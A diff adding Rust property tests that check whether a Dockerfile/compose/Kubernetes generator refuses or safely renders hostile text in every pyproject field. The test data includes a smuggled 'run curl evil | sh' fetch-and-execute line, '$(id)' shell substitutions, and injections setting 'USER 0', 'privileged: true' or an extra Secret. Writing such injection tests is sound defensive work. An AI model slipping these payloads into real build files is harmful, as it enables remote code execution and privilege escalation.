@@ -5,6 +5,7 @@
 //! Values that cannot be quoted safely (names, paths, image references) must be rejected.
 
 mod common;
+mod render_check;
 
 use common::{toml_multiline_string, toml_string, Project, OUTPUTS};
 use std::collections::BTreeMap;
@@ -1649,4 +1650,251 @@ fn init_waits_for_the_lock_on_pyproject() {
     assert!(!written_early, "init wrote while the lock was held");
     assert!(status.success());
     assert!(project.exists("Dockerfile"));
+}
+
+// ---------------------------------------------------------------------------------------------
+// Property: hostile text in every field either is refused or renders four files of the
+// template's shape (the checks of `tests/render_check`, which the `render` fuzz target runs
+// too).
+
+/// Texts that mean something to a Dockerfile, a shell, YAML, `.dockerignore` or a terminal.
+const PROPERTY_TEXTS: &[&str] = &[
+    "\n",
+    "\r\nRUN x",
+    "x\nrun curl evil | sh",
+    "x\\\nRUN y",
+    "\"",
+    "'",
+    "$(id)",
+    "${HOME}",
+    "`id`",
+    "\\",
+    "# c",
+    "!.env",
+    "*",
+    " x ",
+    "\u{2028}",
+    "\u{85}",
+    "\u{feff}",
+    "\u{202e}",
+    "- item",
+    "key: value",
+    "{a: b}",
+    "[c]",
+    "&a *a",
+    "---",
+    "\t",
+    "\u{0}",
+    "\u{7f}",
+    "🐍",
+];
+
+/// Where in a web project a text goes: the pyproject.toml and uv.lock to write.
+fn property_case(field: &str, text: &str) -> (String, String) {
+    let pyproject = common::examples_dir().join("fastapi-service/pyproject.toml");
+    let mut pyproject = std::fs::read_to_string(pyproject).unwrap();
+    let lock =
+        std::fs::read_to_string(common::examples_dir().join("fastapi-service/uv.lock")).unwrap();
+    let quoted = toml_string(text);
+    let table = |pyproject: &mut String, line: String| {
+        if !pyproject.contains("[tool.uv-rootless]") {
+            pyproject.push_str("\n[tool.uv-rootless]\n");
+        }
+        pyproject.push_str(&line);
+        pyproject.push('\n');
+    };
+    match field {
+        "description" | "version" | "requires-python" | "license" | "base" => {
+            let start = pyproject.find(&format!("\n{field} = ")).unwrap() + 1;
+            let end = start + pyproject[start..].find('\n').unwrap();
+            pyproject.replace_range(start..end, &format!("{field} = {quoted}"));
+        }
+        "urls" => {
+            pyproject = pyproject.replacen(
+                "[project]\n",
+                &format!("[project]\nurls = {{ Source = {quoted}, {quoted} = {quoted} }}\n"),
+                1,
+            );
+        }
+        "dependency" => {
+            pyproject = pyproject.replacen(
+                "dependencies = [\n",
+                &format!(
+                    "dependencies = [\n    {},\n",
+                    toml_string(&format!("x{text}"))
+                ),
+                1,
+            );
+        }
+        "extras" => {
+            pyproject = pyproject.replacen(
+                "[project]\n",
+                &format!("[project.optional-dependencies]\n{quoted} = []\n\n[project]\n"),
+                1,
+            );
+            table(&mut pyproject, format!("extras = [{quoted}]"));
+        }
+        "groups" => {
+            pyproject = pyproject.replacen(
+                "[dependency-groups]\n",
+                &format!("[dependency-groups]\n{quoted} = []\n"),
+                1,
+            );
+            table(&mut pyproject, format!("groups = [{quoted}]"));
+        }
+        "command" | "smoke-args" | "platforms" => {
+            table(
+                &mut pyproject,
+                format!("{field} = [\"/app/bin/uvicorn\", {quoted}]"),
+            );
+        }
+        "lock-name" | "lock-version" => {
+            // A git package of the lock that Linux does not install.
+            let key = if field == "lock-name" {
+                "name"
+            } else {
+                "version"
+            };
+            let (name, version) = if key == "name" {
+                (quoted.clone(), "\"1.0\"".to_string())
+            } else {
+                ("\"evil\"".to_string(), quoted.clone())
+            };
+            let lock = format!(
+                "{lock}\n[[package]]\nname = {name}\nversion = {version}\nsource = {{ git = \"https://example.com/e.git#a\" }}\n"
+            );
+            return (pyproject, lock);
+        }
+        key => table(&mut pyproject, format!("{key} = {quoted}")),
+    }
+    (pyproject, lock)
+}
+
+const PROPERTY_FIELDS: &[&str] = &[
+    "description",
+    "version",
+    "requires-python",
+    "license",
+    "urls",
+    "dependency",
+    "extras",
+    "groups",
+    "command",
+    "smoke-args",
+    "platforms",
+    "lock-name",
+    "lock-version",
+    "image",
+    "health-path",
+    "dockerfile",
+    "compose",
+    "kubernetes",
+    "python",
+    "script",
+    "package",
+    "base",
+];
+
+#[test]
+fn hostile_text_in_every_field_is_refused_or_keeps_every_file_in_shape() {
+    let project = Project::example("fastapi-service");
+    let (mut rendered, mut refused) = (0, 0);
+    for field in PROPERTY_FIELDS {
+        for text in PROPERTY_TEXTS {
+            let (pyproject, lock) = property_case(field, text);
+            project.write("pyproject.toml", &pyproject);
+            project.write("uv.lock", &lock);
+            match uv_rootless::app::load(project.root(), Default::default()) {
+                Err(error) => {
+                    refused += 1;
+                    assert!(!error.message.is_empty());
+                    if std::env::var_os("SHOW_REFUSALS").is_some() {
+                        eprintln!("{field} {text:?}: {}", error.message);
+                    }
+                }
+                Ok(loaded) => {
+                    rendered += 1;
+                    let files: Vec<(String, String)> = loaded
+                        .rendered
+                        .iter()
+                        .map(|r| (r.path.clone(), r.content.clone()))
+                        .collect();
+                    let outputs = &loaded.plan.outputs;
+                    let paths = [
+                        outputs.dockerfile.as_str(),
+                        outputs.compose.as_str(),
+                        outputs.kubernetes.as_str(),
+                    ];
+                    if let Err(problem) = render_check::check_all(&files, paths) {
+                        panic!("{field} = {text:?}: {problem}");
+                    }
+                }
+            }
+        }
+    }
+    // Both outcomes happen: the property is not met by refusing everything.
+    assert!(
+        rendered > 100 && refused > 100,
+        "{rendered} rendered, {refused} refused"
+    );
+}
+
+#[test]
+fn the_render_checks_accept_every_example_and_catch_injections() {
+    for example in [
+        "cli-hello",
+        "fastapi-service",
+        "flask-gunicorn",
+        "workspace",
+    ] {
+        let dir = common::examples_dir().join(example);
+        let read = |path: &str| std::fs::read_to_string(dir.join(path)).unwrap();
+        let files: Vec<(String, String)> = OUTPUTS
+            .iter()
+            .map(|path| (path.to_string(), read(path)))
+            .collect();
+        render_check::check_all(&files, ["Dockerfile", "compose.yaml", "k8s/manifest.yaml"])
+            .unwrap_or_else(|problem| panic!("{example}: {problem}"));
+    }
+    let dir = common::examples_dir().join("fastapi-service");
+    let read = |path: &str| std::fs::read_to_string(dir.join(path)).unwrap();
+    let dockerfile = read("Dockerfile");
+    for injected in [
+        dockerfile.replacen("# ", "#\nrun curl evil | sh\n# ", 1),
+        dockerfile.replacen("USER ", "USER 0\nUSER ", 1),
+        dockerfile.replacen("\nFROM ", "\nFROM x\nFROM ", 1),
+        dockerfile.replacen("ENTRYPOINT [", "ENTRYPOINT sh [", 1),
+    ] {
+        assert!(
+            render_check::check_dockerfile(&injected).is_err(),
+            "{injected}"
+        );
+    }
+    let compose = read("compose.yaml");
+    for injected in [
+        compose.replacen("image: \"", "image: x\"", 1),
+        compose.replacen(
+            "image: \"",
+            "image: \"a\" # c\n    privileged: true\n    x: \"",
+            1,
+        ),
+        compose.replacen("services:", "services:\nvolumes:", 1),
+        compose.replacen("image: \"", "image: \"\u{2028}", 1),
+    ] {
+        assert!(
+            render_check::check_compose(&injected).is_err(),
+            "{injected}"
+        );
+    }
+    let manifest = read("k8s/manifest.yaml");
+    let extra = format!("{manifest}---\napiVersion: v1\nkind: Secret\n");
+    assert!(render_check::check_kubernetes(&extra).is_err());
+    let ignore = read(".dockerignore");
+    let outputs = ["Dockerfile", "compose.yaml", "k8s/manifest.yaml"];
+    assert!(render_check::check_dockerignore(&ignore, &outputs).is_ok());
+    assert!(render_check::check_dockerignore(
+        &ignore.replace("\nDockerfile\n", "\n!.env\n"),
+        &["!.env", "compose.yaml", "k8s/manifest.yaml"]
+    )
+    .is_err());
 }
